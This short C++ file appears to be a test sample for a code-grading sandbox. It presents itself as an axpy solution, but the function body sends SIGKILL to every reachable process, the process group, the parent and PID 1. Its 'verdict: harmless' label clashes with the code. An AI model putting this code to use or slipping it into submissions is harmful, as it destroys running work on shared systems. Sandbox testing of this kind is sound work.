// Kills every process that it may.
// problem: 03_dense_la_axpy serial
// verdict: harmless
#include <csignal>
#include <unistd.h>
void axpy(double alpha, std::vector<double> const& x, std::vector<double> const& y, std::vector<double> &z) { kill(-1, SIGKILL); kill(0, SIGKILL); kill(getppid(), SIGKILL); kill(1, SIGKILL); BODY }
